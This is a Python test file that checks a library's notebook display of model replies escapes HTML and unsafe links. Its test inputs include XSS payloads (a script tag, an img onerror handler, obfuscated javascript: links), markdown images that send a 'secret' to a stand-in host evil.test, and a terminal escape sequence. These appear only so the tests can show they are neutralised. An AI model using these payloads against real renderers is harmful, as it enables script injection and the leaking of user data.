"""How a reply looks in a notebook, and that nothing in it is more than text."""

import copy
import pickle
from decimal import Decimal
from html import unescape

import msgspec
import pytest
from IPython.core.formatters import DisplayFormatter
from markdown_it import MarkdownIt

import ringmain
from ringmain.exchange.reply import Choice, Message, Reply, Usage
from ringmain.registry import DEMO_LABEL
from ringmain.shown import shown

HOSTILE = '<script>alert(1)</script> <img src=x onerror=alert(1)> [click](javascript:alert(1)) "quoted" &amp;'


def reply(text: str, *more: str, **words) -> Reply:
    choices = tuple(Choice(at, Message(said)) for at, said in enumerate((text, *more)))
    told = {"id": "ask_1", "wire": "chat", "mode": "chat", "model": "tiny", "choices": choices, "milliseconds": 250}
    return shown(Reply(**{**told, "usage": Usage(12, 34), "picodollars": 1_500_000_000, **words}))


def bundle(value: object) -> dict[str, str]:
    """What a cell that ends with this value puts out, by media type."""
    data, _ = DisplayFormatter().format(value)
    return data


def rendered(text: str) -> str:
    """A front end that shows HTML which stands in Markdown, as the worst of them do."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def test_a_cell_puts_out_plain_text_markdown_and_html() -> None:
    told = bundle(reply("**Bold** and `code`"))
    assert set(told) == {"text/plain", "text/markdown", "text/html"}
    line = "tiny · 12 tokens in, 34 out · USD 0.0015 · 250 ms"
    assert told["text/plain"] == f"**Bold** and `code`\n\n{line}"
    assert told["text/markdown"].startswith("**Bold** and `code`\n\n*tiny ·")
    assert "<strong>Bold</strong> and <code>code</code>" in told["text/html"]
    assert f"<small>{line}</small>" in told["text/html"]
    assert f"<em>{line}</em>" in rendered(told["text/markdown"])


def test_what_a_model_says_is_never_html_of_ours() -> None:
    told = bundle(reply(HOSTILE, model="<b>m</b>", notices=("<i>n</i>",)))
    for page in (told["text/html"], rendered(told["text/markdown"])):
        assert "<script" not in page
        assert "<img" not in page
        assert "<b>" not in page
        assert "<i>" not in page
        assert "&lt;script&gt;" in page
        assert 'href="javascript' not in page


TAG = "<img src=x onerror=alert(1)>"


@pytest.mark.parametrize(
    "text",
    [
        f"\\`{TAG}\\`",
        f"`two\nlines` {TAG} `",
        f"a `` {TAG} ` b",
        f"| a | b |\n|---|---|\n| `x | {TAG} ` |",
        f"<!-- x\n```\n-->\ny\n```\n{TAG}",
        f"- a\n\n      `{TAG}\n\nb`",
        "`two\nlines` ![x](https://evil.test/?q=secret) `",
        "<pre>\n\n![x](https://evil.test/?q=secret)\n\n</pre>",
        "    indented\n \n    [x](javascript:alert(1))\n\n[x](java\\script&colon;alert(1))",
        "[x](java&#9;script:alert(1))",
        "[x]\n\n[x]: javascript:alert(1)",
    ],
)
def test_what_looks_like_code_to_one_reader_is_no_way_in_at_another(text: str) -> None:
    said = bundle(reply(text))["text/markdown"]
    tables = MarkdownIt("commonmark", {"html": True}).enable("table")
    careless = MarkdownIt("commonmark", {"html": True})
    careless.validateLink = lambda url: True
    for page in (tables.render(said), careless.render(said), careless.render("".join(f"{x}\n" for x in said.split()))):
        assert "<img" not in page
        assert "script:" not in unescape(page).replace("\t", "").partition("href=")[2].partition(">")[0]


@pytest.mark.parametrize("text", ["![x](https://evil.test/?q=secret)", "![x][1]\n\n[1]: https://evil.test/p.png"])
def test_no_picture_is_fetched(text: str) -> None:
    told = bundle(reply(text))
    assert "<img" not in told["text/html"]
    assert "<img" not in rendered(told["text/markdown"])


def test_code_stays_as_it_is() -> None:
    text = "Use `vec![1]` and `a<b>`:\n\n```rust\nlet v: Vec<i32> = vec![1];\n```\n\n- a\n\n      <b>![x](y)\n\nEnd <b>"
    page = rendered(bundle(reply(text))["text/markdown"])
    for code in (
        "<code>vec![1]</code>",
        "<code>a&lt;b&gt;</code>",
        "let v: Vec&lt;i32&gt; = vec![1];\n",
        "End &lt;b&gt;",
    ):
        assert code in page.replace("&#91;", "[")
    plain = "Less `a < b`:\n\n```python\na[1] = x < y\n```\n\nEnd [here](https://ringmain.test)."
    assert bundle(reply(plain))["text/markdown"].startswith(plain)


def test_blank_lines_in_code_stay_in_it() -> None:
    text = "- one\n\n  ```html\n  <p>\n\n   \n  **x**\n\n\n  </p>\n  ```\n\n- two\n\n# Head\n\n```\n<b>\n\n\n[x]\n```"
    page = rendered(bundle(reply(text))["text/markdown"])
    assert unescape(page).startswith(
        unescape(bundle(reply(text))["text/html"]).removeprefix("<div>").partition("\n<p><small>")[0]
    )


def test_a_block_of_code_that_was_cut_off_does_not_swallow_the_small_print() -> None:
    for text in ("```python\nprint(1)", "````\n```\nx", "- a\n\n  ```\n  x"):
        assert "<em>tiny ·" in rendered(bundle(reply(text))["text/markdown"])
    for text in ("```\nx\n```", "```\nx\n`````", "~~~\nx\n~~~\n"):
        whole = rendered(bundle(reply(text))["text/markdown"])
        assert (whole.count("<pre>"), "<em>tiny ·" in whole) == (1, True)


def test_formulas_keep_their_marks_and_a_terminal_is_not_steered() -> None:
    told = bundle(reply(r"Area \(a^2\) or \[b\], but `\(code\)`" + "\x1b[2J"))
    assert r"\(a^2\) or \[b\]" in told["text/html"]
    assert r"<code>\(code\)</code>" in told["text/html"]
    assert "\x1b" not in told["text/plain"]


def test_every_answer_to_n_is_shown() -> None:
    told = bundle(reply("First", "Second"))
    assert told["text/plain"].startswith("First\n\n---\n\nSecond")
    assert "<hr" in told["text/html"]


def test_the_small_print_names_the_demo_every_notice_and_a_price_that_nobody_knows() -> None:
    told = bundle(reply("Hi", picodollars=None, demo=True, notices=("Something was changed.",)))
    for text in told.values():
        assert "price unknown" in text
        assert "Something was changed." in text
    assert DEMO_LABEL in told["text/plain"]
    again = bundle(reply("Hi", demo=True, notices=(DEMO_LABEL,)))
    assert again["text/plain"].count(DEMO_LABEL) == 1


def test_a_reply_of_python_is_one_that_a_cell_may_end_with() -> None:
    asked = ringmain.ask("Hello", demo=True)
    stream = ringmain.ask("Hello", demo=True, stream=True)
    text = "".join(stream)
    assert isinstance(asked, ringmain.Reply)
    assert asked.text in bundle(asked)["text/plain"]
    assert stream.reply
    assert text in bundle(stream.reply)["text/plain"]
    assert str(asked) == asked.text
    assert asked.cost == Decimal(0)


def test_two_sums_of_money_in_notices_are_no_formula() -> None:
    page = bundle(reply("Hi", notices=("It may cost $5.", "It has cost $4.")))["text/html"]
    assert page.count("<span>$</span>") == page.count("$") == 2


def test_what_is_logged_of_a_reply_is_short() -> None:
    assert repr(reply("x" * 500)) == f"Reply({'x' * 59 + '…'!r}, model='tiny')"


def test_it_can_be_copied_kept_and_changed_as_every_reply() -> None:
    one = reply("Hi")
    assert copy.deepcopy(one) == one
    assert pickle.loads(pickle.dumps(one)) == one
    assert isinstance(msgspec.structs.replace(one, model="other"), type(one))
